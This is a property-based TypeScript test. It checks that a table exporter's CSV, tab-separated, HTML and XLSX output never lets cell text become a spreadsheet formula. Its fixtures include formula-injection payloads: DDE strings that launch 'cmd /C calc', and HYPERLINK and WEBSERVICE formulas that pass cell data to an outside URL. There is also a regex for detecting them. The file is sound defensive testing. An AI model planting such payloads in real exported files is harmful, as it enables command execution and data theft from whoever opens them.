import fc from "fast-check";
import { expect, test } from "vitest";
import { column, type ExportTable } from "./export-table.ts";
import { tableCsv, tableHtml, tableTabs } from "./table-text.ts";
import { textCell, writeCell } from "./xlsx/cells.ts";

const RUNS = 1_000;
const CELLS = 100;

/** What begins a formula in some spreadsheet, and what may stand before it and be passed over. */
const TRIGGERS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n", "\0"];
const BEFORE = [
  "",
  " ",
  "  ",
  "\u00A0",
  "\uFEFF",
  "\u200B",
  "\t",
  "\n",
  "\r\n",
  "'",
  '"',
  "\u3000",
  "\u2028",
];
const BODIES = [
  "cmd|' /C calc'!A0",
  "1+1",
  "SUM(A1:A9)",
  'HYPERLINK("https://example.com/?"&A1,"x")',
  "WEBSERVICE(A1)",
  'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "1",
  "1e3",
  "-1",
  ",=1",
  '";=1',
  "\n=1",
];
const cell = fc
  .tuple(
    fc.constantFrom(...BEFORE),
    fc.constantFrom(...TRIGGERS, ""),
    fc.constantFrom(...TRIGGERS, ""),
    fc.oneof(fc.constantFrom(...BODIES), fc.string({ maxLength: 8, unit: "binary" })),
  )
  .map((parts) => parts.join(""));

/** What a spreadsheet takes for the beginning of a formula, blanks before it passed over. */
const FORMULA = /^[\s\uFEFF\u200B\0]*[=+\-@＝＋－＠]|^[\t\r\n]/u;

/** A number is not text: it stays one. */
const NUMBER = /^[+-]?\d+(\.\d+)?(e[+-]?\d+)?$/i;

test("no cell of 100,000 becomes a formula", () => {
  let seen = 0;
  fc.assert(
    fc.property(fc.array(cell, { minLength: CELLS, maxLength: CELLS }), (cells) => {
      const table: ExportTable = { title: "x", columns: [column("Text")], rows: cells.map((each) => [each]) };
      const csv = cellsOf(tableCsv(table), ",");
      const tabs = cellsOf(tableTabs(table), "\t");
      expect(csv).toHaveLength(CELLS + 1);
      const written = [...csv, ...tabs, ...htmlCells(tableHtml(table))];
      expect(written.filter((each) => FORMULA.test(each) && !NUMBER.test(each))).toEqual([]);
      for (const each of cells) {
        const { xml } = writeCell({ kind: "text" }, 0, "A1", each);
        expect(xml === "" || xml.includes('t="inlineStr"')).toBe(true);
        expect(xml + textCell("A1", each).xml).not.toMatch(/<f>|<f |<v>/);
      }
      seen += cells.length;
    }),
    { numRuns: RUNS },
  );
  expect(seen).toBe(RUNS * CELLS);
}, 120_000);

/** Cells of text with quotes around those that need them, read without the writer's own code. */
function cellsOf(text: string, delimiter: string): readonly string[] {
  const cells: string[] = [];
  let at = 0;
  while (at < text.length) {
    if (text[at] === '"') {
      const end = closingQuote(text, at + 1);
      cells.push(text.slice(at + 1, end).replaceAll('""', '"'));
      at = end + 1;
    } else {
      const [next = text.length] = [text.indexOf(delimiter, at), text.indexOf("\n", at)]
        .filter((index) => index >= 0)
        .toSorted((a, b) => a - b);
      cells.push(text.slice(at, next));
      at = next;
    }
    at += 1;
  }
  return cells;
}

function closingQuote(text: string, from: number): number {
  let at = text.indexOf('"', from);
  while (text[at + 1] === '"') at = text.indexOf('"', at + 2);
  return at;
}

function htmlCells(html: string): readonly string[] {
  return [...html.matchAll(/<td[^>]*>([^<]*)<\/td>/g)].map(([, cell = ""]) =>
    cell.replaceAll("&lt;", "<").replaceAll("&gt;", ">").replaceAll("&quot;", '"').replaceAll("&amp;", "&"),
  );
}
